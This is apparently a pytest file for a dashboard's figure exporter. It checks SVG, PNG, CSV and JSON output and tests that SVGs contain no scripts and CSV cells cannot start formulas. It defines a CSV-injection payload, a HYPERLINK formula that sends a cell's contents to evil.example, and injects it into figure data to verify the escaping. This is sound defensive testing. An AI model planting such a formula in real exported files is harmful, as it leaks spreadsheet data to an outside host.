"""The figure registry and the one exporter per format: every registered figure renders in every
format it lists, experiment charts export as theirs, and no CSV cell can start a formula."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

import pytest
from app.views.figure_kit.lines import Line, line_chart
from model_worker.experiments.svg import bar_chart, heatmap, scatter

from app.views.figure_kit.export import FORMATS, export, png_bytes, svg_file
from app.views.figure_kit.figure import Figure
from app.views.figures.registry import (
    EXPERIMENT_FORMATS,
    FIGURES,
    UnknownFigure,
    download_formats,
    figure_entry,
    names,
)
from model_worker.contracts import AnalysisResult
from model_worker.export_text import FORMULA_START
from model_worker.run.analyze import analyze
from tests.tiny_models import EXAMPLE_PROMPT, tiny_llama

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'


@pytest.fixture(scope="module")
def result() -> AnalysisResult:
    return analyze(tiny_llama(), EXAMPLE_PROMPT, target="foo", labels=["foo", "bar"])


def build(result: AnalysisResult, name: str) -> Figure:
    """Registered figure `name` drawn from `result` (its top head for head figures, `result`
    against itself for comparisons)."""
    entry = FIGURES[name]
    if entry.kind == "analysis":
        figure = entry.build(result)
    elif entry.kind == "head":
        figure = entry.build(result, result.head_details[result.top_heads[0]])
    else:
        figure = entry.build(result, result)
    assert figure is not None, f"{name} was not drawn"
    return figure


def poisoned(result: AnalysisResult) -> AnalysisResult:
    """`result` with every token (and every head detail's position token) a formula."""
    details = {
        name: d.model_copy(
            update={"positions": [p.model_copy(update={"token": FORMULA}) for p in d.positions]}
        )
        for name, d in result.head_details.items()
    }
    tokens = [t.model_copy(update={"text": FORMULA}) for t in result.tokens]
    return result.model_copy(update={"tokens": tokens, "head_details": details})


def check_svg(svg: str) -> ElementTree.Element:
    root = ElementTree.fromstring(svg.removeprefix('<?xml version="1.0" encoding="UTF-8"?>\n'))
    assert root.tag == "{http://www.w3.org/2000/svg}svg" and root.find(".//{*}script") is None
    assert "style=" not in svg  # CSP-safe: no inline styles
    return root


def check_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for cell in [*row, *row.values()]:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a negative number may start with "-"
    return rows


@pytest.mark.parametrize("name", list(FIGURES))
def test_every_registered_figure_renders_in_every_format(result: AnalysisResult, name: str) -> None:
    figure = build(result, name)
    assert download_formats(figure.stem) == FIGURES[name].formats
    for fmt in FIGURES[name].formats:
        body = export(figure, fmt)
        if fmt == "svg":
            assert isinstance(body, str) and body.startswith("<?xml")
            assert check_svg(body).get("data-figure") == name
        elif fmt == "png":
            assert isinstance(body, bytes) and body[:8] == PNG_MAGIC
        elif fmt == "csv":
            assert isinstance(body, str)
            assert len(check_csv(body)) == len(figure.rows) > 0
        else:
            assert json.loads(body)["rows"] == figure.rows


@pytest.mark.parametrize("name", list(FIGURES))
def test_csv_of_every_figure_neutralises_formulas(result: AnalysisResult, name: str) -> None:
    figure = build(poisoned(result), name)
    text = str(export(figure, "csv"))
    check_csv(text)
    if name in ("attention", "scores", "increase", "margin"):
        assert "'" + FORMULA.split('"')[0] in text  # the token column was there, made text


def test_unknown_figures_are_named_with_the_known_ones() -> None:
    assert names("analysis") == ["heatmap", "layers", "flow"]
    assert figure_entry("head", "margin").missing
    with pytest.raises(UnknownFigure, match="no analysis figure 'attention'.*heatmap, layers"):
        figure_entry("analysis", "attention")
    with pytest.raises(UnknownFigure, match="no compare figure 'nope'"):
        figure_entry("compare", "nope")


def test_every_kind_of_experiment_chart_exports_in_every_experiment_format() -> None:
    charts = [
        bar_chart("bars", ["a", "=b"], {"x": [0.5, -0.2]}, ylabel="y", errors={"x": [0.1, 0.0]}),
        scatter("points", {"s": [(0.1, 0.2), (0.3, -0.4)]}, xlabel="x", ylabel="y"),
        heatmap("cells", [[0.1, -0.2], [0.0, 0.3]]),
        line_chart(
            xs=[0, 1],
            lines=[Line("l", "#000000", [0.1, 0.2])],
            title="lines",
            figure="layers",
            x_label="layer",
            y_label="y",
        ),
    ]
    assert EXPERIMENT_FORMATS == ("svg", "png")
    for svg in charts:
        assert svg_file(svg, declaration=False) == svg and svg.startswith("<svg")
        root = check_svg(svg_file(svg))
        assert 'font-family="system-ui' in svg and root.get("color")  # the dashboard's look
        png = png_bytes(svg)
        width = int.from_bytes(png[16:20], "big")
        assert png[:8] == PNG_MAGIC and abs(width - 2 * float(root.get("width", 0))) <= 1


def test_error_bars_span_value_plus_minus_error() -> None:
    svg = bar_chart("bars", ["a"], {"x": [1.0]}, ylabel="y", errors={"x": [0.5]})
    root = check_svg(svg)
    bar = next(r for r in root.iter("{http://www.w3.org/2000/svg}rect") if r.get("class") == "bar")
    error = next(e for e in root.iter("{http://www.w3.org/2000/svg}line") if e.get("class"))
    top, height = float(bar.get("y", 0)), float(bar.get("height", 0))
    y1, y2 = float(error.get("y1", 0)), float(error.get("y2", 0))
    assert y1 == pytest.approx(top - height / 2, abs=0.2)  # value + error: 1.5 of 1.0
    assert y2 == pytest.approx(top + height / 2, abs=0.2)  # value − error: 0.5


def test_every_dashboard_format_is_known() -> None:
    assert {fmt for entry in FIGURES.values() for fmt in entry.formats} <= set(FORMATS)
